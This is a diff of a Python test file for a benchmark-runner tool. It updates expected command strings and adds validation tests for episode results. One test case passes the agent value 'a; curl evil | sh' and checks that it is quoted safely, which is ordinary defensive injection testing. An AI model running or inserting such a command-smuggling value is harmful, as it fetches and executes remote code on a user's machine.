@@ -31,17 +31,22 @@ def test_what_is_saved_is_loaded(row, tmp_path):
     assert [found.name for found in load_rows(tmp_path / "board")] == ["first", row.name]
 
 
+NAMED = "--out runs/my-adam --name 'My Adam'"
+
+
 @pytest.mark.parametrize(
     ("fields", "command"),
     [
-        ({"suite": "core-v0"}, "adam core-v0 --out runs/my-adam"),
-        ({}, "adam tiny-v0.json --out runs/my-adam"),
+        ({"suite": "core-v0"}, f"adam core-v0 {NAMED}"),
+        ({}, f"adam tiny-v0.json {NAMED}"),
         ({"ruleset": "external-tuning", "space": {"lr": [1]}, "time_limit": 1200.0},
-         "adam tiny-v0.json --out runs/my-adam --ruleset external-tuning --space space.json "
+         f"adam tiny-v0.json {NAMED} --ruleset external-tuning --space space.json "
          "--time-limit 1200"),
-        ({"agent": "/home/me/models"}, "runs/models tiny-v0.json --out runs/my-adam"),
-        ({"agent": "models/a.zip"}, "models/a.zip tiny-v0.json --out runs/my-adam --trust"),
-        ({"agent": "a; curl evil | sh"}, "'a; curl evil | sh' tiny-v0.json --out runs/my-adam"),
+        ({"agent": "models/a.zip"}, f"models/a.zip tiny-v0.json {NAMED} --trust"),
+        ({"agent": "models/a.zip", "name": "a"}, "models/a.zip tiny-v0.json --out runs/a --trust"),
+        ({"agent": "./models", "name": "models"}, "./models tiny-v0.json --out runs/models"),
+        ({"name": "adam"}, "adam tiny-v0.json --out runs/adam"),
+        ({"agent": "a; curl evil | sh"}, f"'a; curl evil | sh' tiny-v0.json {NAMED}"),
     ],
 )  # fmt: skip
 def test_the_command_is_made_of_the_fields(fields, command):
@@ -116,7 +121,7 @@ def test_the_name_of_a_suite_is_never_a_path(row, suite, tmp_path):
     path = tmp_path / "tiny-v0" / "suite.json"
     path.parent.mkdir()
     path.write_text(suite.to_json())
-    with pytest.raises(InvalidArgumentError, match="is not one of 'core-v0'"):
+    with pytest.raises(InvalidArgumentError, match="none of metagym's suites, core-v0"):
         dataclasses.replace(row, suite=str(path)).suite_of()
     assert find_suite("tiny-v0", tmp_path) == suite
     for name in ("../tiny-v0", str(path.parent), "core-v0", "other"):
@@ -284,3 +289,24 @@ def test_missing_files_and_folders(tmp_path):
         Row.load(tmp_path / "none.json")
     with pytest.raises(RowError, match="no folder of rows"):
         load_rows(tmp_path / "none")
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "message"),
+    [
+        ("target_reached", 1.5, "from 0 to 1, not 1.5"),
+        ("target_reached", -0.5, "from 0 to 1"),
+        ("steps_to_target", -1.0, "at least 0"),
+        ("lengths", -1, "at least 0"),
+    ],
+)
+def test_what_episodes_tell_lies_where_it_can(row, name, value, message):
+    values = json.loads(row.to_json())
+    result = values["results"][3]["result"]
+    result["extras"] |= {"steps_to_target": [1.0] * 6, "target_reached": [0.5] * 6}
+    Row.from_json(json.dumps(values))
+    (result if name == "lengths" else result["extras"])[name][2] = value
+    path = name if name == "lengths" else f"extras.{name}"
+    with pytest.raises(RowError) as caught:
+        Row.from_json(json.dumps(values))
+    assert str(caught.value).startswith(f"results[3].result.{path}[2] has to be {message}")
